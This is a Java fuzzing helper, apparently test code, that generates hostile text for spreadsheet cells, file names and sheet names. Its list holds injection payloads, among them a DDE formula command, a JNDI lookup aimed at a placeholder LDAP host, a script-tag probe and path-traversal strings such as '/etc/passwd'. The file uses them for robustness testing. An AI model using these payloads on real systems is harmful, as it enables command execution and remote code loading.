package cn.canbao.world;

import java.util.List;
import java.util.Random;

/** Texts as nobody should write them, for whatever can be written: each may stand in a cell, in a name or in a configuration. */
public final class HostileTexts {

    /** The day of birth of every number in them, which nothing may show. */
    public static final String BIRTH = "19800101";

    private static final int LONGEST_CELL = 32_767;

    private static final List<String> PIECES = List.of(
            "=1+1",
            "+1",
            "-1+1",
            "@SUM(1)",
            "＝1+1",
            "＋",
            "－",
            "＠x",
            "\t=1",
            "=cmd|' /C calc'!A0",
            "\"",
            "'",
            "\"\"",
            "''",
            ",",
            "，",
            ";",
            "\\",
            "\r",
            "\n",
            "\r\n",
            "\u0085",
            "\u2028",
            "\u2029",
            "\u000b",
            "\u000c",
            "]]>",
            "<![CDATA[",
            "<script>alert(1)</script>",
            "</script>",
            "<!--",
            "-->",
            "&amp;",
            "&#0;",
            "&",
            "<b>",
            "<?xml version='1.0'?>",
            "{{ region }}",
            "{{data}}",
            "{{",
            "}}",
            "%s%n%d",
            "%",
            "${region}",
            "${jndi:ldap://x.invalid/a}",
            "${",
            "#{1}",
            "{file}",
            "{value}",
            "@number-expected",
            "{0}",
            "$1",
            "\\1",
            "\\u0000",
            "_x0041_",
            "_x0000_",
            "_x005F_x0041_",
            "_xD800_",
            "_x",
            "\u202e",
            "\u202d",
            "\u200e",
            "\u061c",
            "\u2066",
            "\u2069",
            "\u200b",
            "\u200d",
            "\u00ad",
            "\ufeff",
            "\ufffe",
            "\uffff",
            "\ufffd",
            "\ufdd0",
            "\ud800",
            "\udc00",
            "\udbff",
            "\udc00\ud800",
            "𠮷",
            "𪚥田",
            "\ud83d\ude00",
            "\ud83d\udc68\u200d\ud83d\udc69",
            "\udb40\udc41",
            "e\u0301",
            "\u0301\u0323\u0301",
            "ﾞ",
            "①",
            "²",
            "Ⅹ",
            "㈠",
            "㎏",
            "ﬁ",
            "\ufdfa",
            "\u3000",
            "\u00a0",
            "\u1680",
            "NaN",
            "Infinity",
            "1E400",
            "-0",
            "1e-400",
            "0x1F",
            "1/0",
            "999999999999999999999999",
            "1.7976931348623157E308",
            "2021-02-30",
            "0000-00-00",
            "9999年99月99日",
            "25:61",
            "1900-02-29",
            "截至2021年13月40日",
            "截至",
            "村",
            "合计",
            "填报单位：",
            "备注",
            "身份证号",
            "東鎮",
            "东镇",
            "甲村",
            "null",
            "undefined",
            "true",
            "../../x",
            "..\\x",
            "C:\\x",
            "/etc/passwd",
            "CON",
            "NUL",
            "a:b",
            "a*b?c",
            "[1]x",
            "sheet'!A1",
            "1:2",
            "\u0000",
            "\u0001",
            "\u0007",
            "\u0008",
            "\u001b[2J",
            "\u001f",
            "\u007f",
            "\u009b",
            "1111111111111111111111",
            "x11111111111111111111");

    private final Random random;

    /** @param seed the same texts come for the same one */
    public HostileTexts(long seed) {
        this.random = new Random(seed);
    }

    /** The next text: some are empty or blank, some as long as a cell may be. */
    public String next() {
        int shape = random.nextInt(40);
        if (shape == 0) {
            return longOne();
        }
        StringBuilder text = new StringBuilder();
        for (int pieces = shape < 3 ? 0 : 1 + random.nextInt(5); pieces > 0; pieces--) {
            text.append(piece());
        }
        return shape < 3 ? " ".repeat(random.nextInt(3)) : text.toString();
    }

    /** A text that is not blank. */
    public String nextWord() {
        return "甲" + next();
    }

    /** A text that a file may be named by here: without separators, of at most 120 bytes. */
    public String nextFileName() {
        String text = next();
        while (text.length() > 50) {
            text = next();
        }
        StringBuilder name = new StringBuilder();
        text.codePoints()
                .filter(c -> c != '/' && c != 0 && !(c >= Character.MIN_SURROGATE && c <= Character.MAX_SURROGATE))
                .forEach(name::appendCodePoint);
        return name.toString();
    }

    /** A text that a sheet may be named by. */
    public String nextSheetName() {
        String name = next().replaceAll("[\\[\\]*/\\\\?:]", "_");
        return name.isBlank() ? "空" + random.nextInt(1_000) : name.substring(0, Math.min(31, name.length()));
    }

    private String piece() {
        return switch (random.nextInt(12)) {
            case 0 -> Character.toString(random.nextInt(0x250));
            case 1 -> String.valueOf((char) random.nextInt(0x10000));
            case 2 -> Character.toString(random.nextInt(0x110000));
            case 3 -> number();
            default -> PIECES.get(random.nextInt(PIECES.size()));
        };
    }

    /** An ID number as somebody may write it. */
    private String number() {
        String number = People.id(random.nextInt(1_000));
        return switch (random.nextInt(6)) {
            case 0 -> number.substring(0, 6) + "-" + number.substring(6, 14) + "-" + number.substring(14);
            case 1 -> number.replace("", " ").strip();
            case 2 -> "0" + number + "99";
            case 3 -> number.substring(0, 17) + "x";
            case 4 -> number.substring(0, 10) + "\u200b" + number.substring(10);
            default -> number;
        };
    }

    private String longOne() {
        String piece = random.nextInt(3) == 0 ? piece() : PIECES.get(random.nextInt(PIECES.size()));
        return piece.repeat(LONGEST_CELL / piece.length());
    }
}
